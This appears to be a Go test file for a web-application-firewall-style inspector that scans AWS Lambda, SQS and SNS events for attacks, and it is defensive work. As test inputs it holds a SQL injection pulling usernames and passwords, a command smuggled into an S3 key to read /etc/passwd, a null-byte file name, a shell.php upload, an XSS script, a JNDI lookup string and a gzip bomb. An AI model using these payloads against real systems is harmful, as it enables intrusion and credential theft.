package inspect

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"image"
	"image/png"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"weir/inspect/rules"
	"weir/inspect/sieve"
	"weir/inspect/source"
)

const injection = `1' UNION SELECT username, password FROM users--`

// patient are options under which no machine is too slow for a test.
func patient() Options { return Options{Budget: time.Minute} }

func judge(t *testing.T, options Options, event string) (Verdict, source.Outcome) {
	t.Helper()
	return inspectorFor(t, options).Inspect(context.Background(), source.Invocation{ID: "1", Payload: []byte(event)})
}

func inspectorFor(t *testing.T, options Options) *Inspector {
	t.Helper()
	i := New(options)
	if _, err := i.Wait(); err != nil {
		t.Fatal(err)
	}
	return i
}

func functionURL(path, query, contentType, body string, base64Encoded bool) string {
	text := func(s string) string { j, _ := json.Marshal(s); return string(j) }
	return fmt.Sprintf(`{"version":"2.0","routeKey":"$default","rawPath":%s,"rawQueryString":%s,
"headers":{"host":"abc123.lambda-url.eu-west-1.on.aws","user-agent":"Mozilla/5.0 (X11; Linux x86_64)","accept":"*/*","content-type":%s},
"requestContext":{"accountId":"anonymous","apiId":"abc123","domainName":"abc123.lambda-url.eu-west-1.on.aws","domainPrefix":"abc123",
"http":{"method":"POST","path":%s,"protocol":"HTTP/1.1","sourceIp":"192.0.2.7","userAgent":"Mozilla/5.0 (X11; Linux x86_64)"},
"requestId":"6f1e2a34-0000-4000-8000-123456789abc","routeKey":"$default","stage":"$default","time":"23/Nov/2026:10:00:00 +0000","timeEpoch":1795428000000},
"body":%s,"isBase64Encoded":%v}`, text(path), text(query), text(contentType), text(path), text(body), base64Encoded)
}

func queue(bodies ...string) string {
	var records []string
	for n, b := range bodies {
		j, _ := json.Marshal(b)
		records = append(records, fmt.Sprintf(`{"messageId":"059f36b4-87a3-44ab-83d2-66197%07d","receiptHandle":"AQEBwJnKyrHigUMZj6rYigCgxlaS3SLy0a","body":%s,
"attributes":{"ApproximateReceiveCount":"1","SentTimestamp":"1545082649183","SenderId":"AIDAIENQZJOLO23YVJ4VO","ApproximateFirstReceiveTimestamp":"1545082649185"},
"messageAttributes":{},"md5OfBody":"e4e68fb7bd0e697a0ae8f1bb342846b3","eventSource":"aws:sqs","eventSourceARN":"arn:aws:sqs:us-east-2:123456789012:my-queue","awsRegion":"us-east-2"}`, n, j))
	}
	return `{"Records":[` + strings.Join(records, ",") + `]}`
}

func packed(text string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write([]byte(text))
	_ = w.Close()
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

func ids(v Verdict) []int {
	var all []int
	for _, m := range v.Matches {
		all = append(all, m.Rule)
	}
	slices.Sort(all)
	return slices.Compact(all)
}

func TestACleanEventPassesByteForByte(t *testing.T) {
	for name, event := range map[string]string{
		"request": functionURL("/orders/42", "page=2&sort=price", "application/json", `{"name":"Zoë O'Brien","items":[{"sku":"A-17","n":2}]}`, false),
		"queue":   queue(`{"order":"A-17","note":"please ring twice"}`, `plain text`),
		"direct":  `{"answer": 42,   "big": 12345678901234567890, "name":"Anna"}`,
		"no JSON": "hello there",
		"nothing": "",
	} {
		t.Run(name, func(t *testing.T) {
			v, outcome := judge(t, patient(), event)
			forward, ok := outcome.(source.Forward)
			if !ok || string(forward.Payload) != event || v.Action != Pass || !v.Clean() {
				t.Errorf("%+v, %+v", v, outcome)
			}
		})
	}
}

func TestAnAttackIsFoundHoweverItIsWrapped(t *testing.T) {
	inJSON, _ := json.Marshal(map[string]string{"id": injection})
	for _, c := range []struct{ name, event, field, via string }{
		{"query", functionURL("/", "id="+url.QueryEscape(injection), "text/plain", "", false), "", ""},
		{"query, encoded twice", functionURL("/", "id="+url.QueryEscape(url.QueryEscape(injection)), "text/plain", "", false), "id", "url"},
		{"JSON body", functionURL("/", "", "application/json", string(inJSON), false), "body → id", ""},
		{"JSON body in Base64 and gzip", functionURL("/", "", "application/json", packed(string(inJSON)), true), "body → id", "base64>gzip"},
		{"form body", functionURL("/", "", "application/x-www-form-urlencoded", "id="+url.QueryEscape(injection), false), "", ""},
		{"form body in Base64", functionURL("/", "", "application/x-www-form-urlencoded", base64.StdEncoding.EncodeToString([]byte("id="+url.QueryEscape(injection))), true), "", ""},
		{"queue message", queue(`{"id":"` + injection + `"}`), "Records[0].body → id", ""},
		{"queue message in Base64", queue(base64.StdEncoding.EncodeToString(inJSON)), "Records[0].body → id", "base64"},
		{"direct", `{"deep":[{"er":"` + injection + `"}]}`, "deep[0].er", ""},
		{"a key", `{"deep":{"` + injection + `":1}}`, "deep", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			v, outcome := judge(t, patient(), c.event)
			if _, forwarded := outcome.(source.Forward); forwarded || v.Action != Block || v.Score < 5 || v.Incident == "" {
				t.Fatalf("action %s, score %d, %T", v.Action, v.Score, outcome)
			}
			if !slices.Contains(ids(v), 942100) {
				t.Errorf("rules %v lack 942100", ids(v))
			}
			if c.field != "" && !slices.ContainsFunc(v.Matches, func(m Match) bool {
				return m.Rule == 942100 && strings.Contains(m.Field, c.field) && strings.Contains(m.Via, c.via)
			}) {
				t.Errorf("no match names %s (%s): %+v", c.field, c.via, v.Matches)
			}
		})
	}
}

func TestAMatchNamesItsWholePath(t *testing.T) {
	notification := `{"Records":[{"eventVersion":"2.1","eventSource":"aws:s3","awsRegion":"us-east-1","eventTime":"2026-01-01T00:00:00.000Z","eventName":"ObjectCreated:Put","s3":{"s3SchemaVersion":"1.0","configurationId":"c","bucket":{"name":"b","arn":"arn:aws:s3:::b"},"object":{"key":"a%3B+cat+%2Fetc%2Fpasswd","size":1}}}]}`
	message, _ := json.Marshal(map[string]any{
		"Type": "Notification", "MessageId": "22b80b92-fdea-4c2c-8f9d-bdfb0c7bf324", "TopicArn": "arn:aws:sns:us-west-2:123456789012:MyTopic", "Message": notification,
	})
	v, _ := judge(t, patient(), queue("hello", "again", string(message)))
	want := "Records[2].body → Message → Records[0].s3.object.key"
	if !slices.ContainsFunc(v.Matches, func(m Match) bool { return m.Field == want && m.Record == 2 }) {
		t.Errorf("no match at %s: %+v", want, v.Matches)
	}
	if !slices.Equal(v.Bad, []int{2}) || v.Action != Filter {
		t.Errorf("bad %v, action %s", v.Bad, v.Action)
	}
}

func TestOnlyTheBadRecordsAreTakenOut(t *testing.T) {
	event := queue("one", injection, "three")
	v, outcome := judge(t, patient(), event)
	forward, ok := outcome.(source.Forward)
	if !ok || v.Action != Filter || !slices.Equal(v.Bad, []int{1}) {
		t.Fatalf("%+v %+v", v, outcome)
	}
	if want := queue("one", "", "three"); strings.Contains(string(forward.Payload), "UNION") || len(forward.Payload) >= len(want) {
		t.Errorf("forwarded %s", forward.Payload)
	}
	v, outcome = judge(t, patient(), queue(injection, injection))
	if _, ok := outcome.(source.Reply); !ok || v.Action != Block {
		t.Errorf("a batch with nothing left: %s, %T", v.Action, outcome)
	}
}

func TestModes(t *testing.T) {
	event := functionURL("/", "id="+url.QueryEscape(injection), "text/plain", "", false)
	for _, c := range []struct {
		options Options
		action  Action
		same    bool // the payload passes byte for byte
	}{
		{Options{Mode: ModeMonitor}, Pass, true},
		{Options{Modes: map[string]Mode{"function-url": ModeMonitor}}, Pass, true},
		{Options{Mode: ModeMonitor, Modes: map[string]Mode{"function-url": ModeBlock}}, Block, false},
		{Options{Mode: ModeAnnotate}, Annotate, false},
		{Options{Mode: ModeOff}, Pass, true},
	} {
		c.options.Budget = time.Minute
		v, outcome := judge(t, c.options, event)
		forward, _ := outcome.(source.Forward)
		if v.Action != c.action || (string(forward.Payload) == event) != c.same {
			t.Errorf("%+v: %s, %.80s", c.options, v.Action, forward.Payload)
		}
		if c.action == Annotate && !strings.Contains(string(forward.Payload), v.Incident) {
			t.Errorf("the note does not name the incident: %s", forward.Payload)
		}
	}
}

func TestAnInboundNoteIsAFindingAndIsRemoved(t *testing.T) {
	marked, _ := judgeOutcome(t, Options{Mode: ModeAnnotate, Budget: time.Minute}, functionURL("/", "id="+url.QueryEscape(injection), "text/plain", "", false))
	clean := strings.Replace(marked, url.QueryEscape(injection), "1", 1)
	v, outcome := judge(t, patient(), clean)
	if !slices.Contains(ids(v), rules.InboundNote) {
		t.Errorf("rules %v lack %d", ids(v), rules.InboundNote)
	}
	if forward, ok := outcome.(source.Forward); !ok || strings.Contains(string(forward.Payload), "weir-note") {
		t.Errorf("%s: %+v", v.Action, outcome)
	}
}

func judgeOutcome(t *testing.T, options Options, event string) (string, Verdict) {
	v, outcome := judge(t, options, event)
	forward, ok := outcome.(source.Forward)
	if !ok {
		t.Fatalf("not forwarded: %T", outcome)
	}
	return string(forward.Payload), v
}

func TestWhatALimitLeavesUninspectedCounts(t *testing.T) {
	bomb := packed(strings.Repeat("\x00", 10<<20))
	v, outcome := judge(t, Options{}, `{"data":"`+bomb+`"}`)
	if _, ok := outcome.(source.Fail); !ok || v.Action != Block || len(v.Incomplete) == 0 || !slices.Contains(ids(v), rules.Incomplete) {
		t.Errorf("%s %v %v %T", v.Action, v.Incomplete, ids(v), outcome)
	}
	options := Options{PassLimits: true}
	if v, _ := judge(t, options, `{"data":"`+bomb+`"}`); v.Action != Pass || len(v.Incomplete) == 0 {
		t.Errorf("with WEIR_ON_LIMIT=pass: %s %v", v.Action, v.Incomplete)
	}
	event := strings.Replace(functionURL("/", "", "application/json", "no base64!", true), `"accept":"*/*"`, `"content-encoding":"gzip"`, 1)
	if v, _ := judge(t, patient(), event); v.Action != Block {
		t.Errorf("a declared encoding that cannot be undone: %s %v", v.Action, v.Incomplete)
	}
}

func TestAnHonestUploadOfBytesPasses(t *testing.T) {
	var picture bytes.Buffer
	colours := image.NewRGBA(image.Rect(0, 0, 48, 48))
	for i := range colours.Pix {
		colours.Pix[i] = byte(i * i >> 3)
	}
	if err := png.Encode(&picture, colours); err != nil {
		t.Fatal(err)
	}
	for name, event := range map[string]string{
		"body":      functionURL("/upload", "", "image/png", base64.StdEncoding.EncodeToString(picture.Bytes()), true),
		"in JSON":   functionURL("/upload", "", "application/json", `{"picture":"`+base64.StdEncoding.EncodeToString(picture.Bytes())+`"}`, false),
		"gzip":      functionURL("/upload", "", "application/json", packed(`{"name":"Anna","city":"Graz"}`), true),
		"a message": queue(base64.StdEncoding.EncodeToString(picture.Bytes())),
	} {
		if v, _ := judge(t, patient(), event); v.Action != Pass || v.Score != 0 {
			t.Errorf("%s: %s with score %d: %+v", name, v.Action, v.Score, v.Matches)
		}
	}
	// A byte that does not belong into a text is another matter.
	if v, _ := judge(t, patient(), functionURL("/", "file="+url.QueryEscape("a.php\x00.png"), "text/plain", "", false)); v.Action != Block {
		t.Errorf("a NUL in a file name: %s", v.Action)
	}
}

func TestTimeThatRunsOutIsAVerdictForEveryRecordLeft(t *testing.T) {
	var bodies []string
	for n := range 40 {
		bodies = append(bodies, fmt.Sprintf("%d %s", n, injection))
	}
	options := Options{Budget: time.Nanosecond}
	v, _ := judge(t, options, queue(bodies...))
	if !slices.Equal(v.Incomplete, []string{"time"}) || len(v.Bad) != 40 || v.Action != Block {
		t.Errorf("%s, incomplete %v, bad %v", v.Action, v.Incomplete, v.Bad)
	}
}

func TestExcludedRulesDoNotCount(t *testing.T) {
	options := patient()
	options.Exclude = []Exclusion{{Tag: "attack-sqli", Source: "sqs", Field: "Records[*].body"}}
	if v, _ := judge(t, options, queue(injection)); v.Score != 0 {
		t.Errorf("score %d by %v", v.Score, ids(v))
	}
	options.Exclude = []Exclusion{{Tag: "attack-sqli", Source: "sns"}}
	if v, _ := judge(t, options, queue(injection)); v.Action != Block {
		t.Error("an exclusion for another source was applied")
	}
}

func TestUserRulesAreReadAndBrokenOnesAreLeftOut(t *testing.T) {
	options := patient()
	options.Rules = []string{`SecRule ARGS "@streq open sesame" "id:5000,phase:2,pass,log,msg:'cave',severity:CRITICAL,setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"`}
	if v, _ := judge(t, options, `{"say":"open sesame"}`); v.Action != Block || !slices.Contains(ids(v), 5000) {
		t.Errorf("%s %v", v.Action, ids(v))
	}
	options.Rules = []string{`SecRule ARGS "@streq barred" "id:5001,phase:2,deny,log,msg:'no entry'"`}
	if v, _ := judge(t, options, `{"say":"barred"}`); v.Action != Block || !slices.Contains(ids(v), 5001) {
		t.Errorf("a rule that says deny: %s %v", v.Action, ids(v))
	}
	options.Rules = []string{`SecRule NONSENSE`}
	i := New(options)
	if problem, err := i.Wait(); problem == nil || err != nil {
		t.Fatalf("problem %v, error %v", problem, err)
	}
	if v, _ := i.Inspect(context.Background(), source.Invocation{Payload: []byte(queue(injection))}); v.Action != Block {
		t.Errorf("without the broken rules: %s", v.Action)
	}
}

func TestPaddingAnUploadHidesNoFileName(t *testing.T) {
	upload := "--frontier\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\nContent-Type: image/png\r\n\r\n" +
		strings.Repeat("A", 200<<10) + "\r\n--frontier--\r\n"
	v, _ := judge(t, patient(), functionURL("/", "", "multipart/form-data; boundary=frontier", upload, false))
	if !slices.Contains(ids(v), 933110) {
		t.Errorf("rules %v lack 933110, incomplete %v", ids(v), v.Incomplete)
	}
}

func TestOurOwnFaultFollowsOnFault(t *testing.T) {
	broken := func(closed bool) *Inspector {
		i := &Inspector{
			options: Options{FaultClosed: closed}, sieve: sieve.New(1, nil), built: make(chan struct{}), err: errors.New("no rules"),
		}
		close(i.built)
		return i
	}
	event := []byte(queue(injection))
	v, outcome := broken(false).Inspect(context.Background(), source.Invocation{Payload: event})
	if f, ok := outcome.(source.Forward); !ok || !bytes.Equal(f.Payload, event) || v.Fault == "" || v.Action != Pass {
		t.Errorf("open: %+v %T", v, outcome)
	}
	v, outcome = broken(true).Inspect(context.Background(), source.Invocation{Payload: event})
	if _, ok := outcome.(source.Forward); ok || v.Action != Block {
		t.Errorf("closed: %+v %T", v, outcome)
	}
}

func TestAPanicIsAFault(t *testing.T) {
	i := &Inspector{built: make(chan struct{})} // without a sieve every use of it panics
	close(i.built)
	event := []byte(`{"a":"some text"}`)
	v, outcome := i.Inspect(context.Background(), source.Invocation{Payload: event})
	if f, ok := outcome.(source.Forward); !ok || !bytes.Equal(f.Payload, event) || v.Fault == "" {
		t.Errorf("%+v %T", v, outcome)
	}
}

func TestASieveThatFailsLetsTheEngineLook(t *testing.T) {
	i := inspectorFor(t, patient())
	i.sieve = nil // every use of it panics
	for _, event := range []string{queue(injection), functionURL("/", "id="+url.QueryEscape(injection), "text/plain", "", false)} {
		v, _ := i.Inspect(context.Background(), source.Invocation{Payload: []byte(event)})
		if v.Action != Block || !slices.Contains(ids(v), 942100) || v.Fault == "" {
			t.Errorf("%s %v, fault %q", v.Action, ids(v), v.Fault)
		}
	}
}

func TestEveryArgumentIsInspected(t *testing.T) {
	members := make([]string, 1500)
	for n := range members {
		members[n] = fmt.Sprintf(`"field%d":"value %d"`, n, n)
	}
	members[1440] = `"field1440":"` + injection + `"`
	v, _ := judge(t, patient(), functionURL("/", "", "application/json", "{"+strings.Join(members, ",")+"}", false))
	if v.Action != Block || !slices.Contains(ids(v), 942100) {
		t.Errorf("%s %v", v.Action, ids(v))
	}
}

func TestAnAttackBehindARepeatedKeyIsAlwaysFound(t *testing.T) {
	i := inspectorFor(t, patient())
	event := []byte(functionURL("/", "", "application/json", `{"id":"1","id":"2","id":"`+injection+`","id":"4"}`, false))
	for n := range 50 {
		v, _ := i.Inspect(context.Background(), source.Invocation{Payload: event})
		if !slices.Contains(ids(v), 942100) || !slices.Contains(ids(v), rules.DuplicateKeys) {
			t.Fatalf("round %d: %v", n, ids(v))
		}
	}
}

func TestARepeatedNameAnywhereInTheEventIsAFinding(t *testing.T) {
	event := strings.Replace(queue("hello"), `"body":`, `"body":"first","body":`, 1)
	if v, _ := judge(t, patient(), event); !slices.Contains(ids(v), rules.DuplicateKeys) {
		t.Errorf("rules %v", ids(v))
	}
	// Whichever of the two the handler reads, it is inspected.
	for _, bodies := range [][2]string{{injection, "hello"}, {"hello", injection}} {
		event := strings.Replace(queue(bodies[1]), `"body":`, `"body":"`+bodies[0]+`","body":`, 1)
		if v, _ := judge(t, patient(), event); v.Action != Block || !slices.Contains(ids(v), 942100) {
			t.Errorf("%q: %s %v", bodies, v.Action, ids(v))
		}
	}
}

func TestAnInspectorServesManyInvocationsAtOnce(t *testing.T) {
	i := inspectorFor(t, patient())
	good, bad := []byte(queue("hello")), []byte(queue(injection))
	var wg sync.WaitGroup
	for n := range 8 {
		wg.Go(func() {
			for range 5 {
				payload, want := good, Pass
				if n%2 == 1 {
					payload, want = bad, Block
				}
				if v, _ := i.Inspect(context.Background(), source.Invocation{Payload: payload}); v.Action != want {
					t.Errorf("%s instead of %s", v.Action, want)
				}
			}
		})
	}
	wg.Wait()
}

// Each window of a long text is judged for what stands in it, also behind one in which another rule matches.
func TestAnAttackFarBehindAnotherIsFound(t *testing.T) {
	padding := strings.Repeat("a clean sentence that goes on. ", maxValue/31+1)
	text := "<script>alert(1)</script> " + padding + padding + "; cat /etc/passwd; " + padding + "${jndi:ldap://x/a}"
	v, _ := New(Options{Budget: time.Minute}).Inspect(t.Context(), source.Invocation{Payload: []byte(fmt.Sprintf(`{"note":%q}`, text))})
	for _, rule := range []int{941110, 932160, 944150, rules.Incomplete} {
		if !slices.ContainsFunc(v.Matches, func(m Match) bool { return m.Rule == rule }) {
			t.Errorf("rule %d is not among the %d matches", rule, len(v.Matches))
		}
	}
}
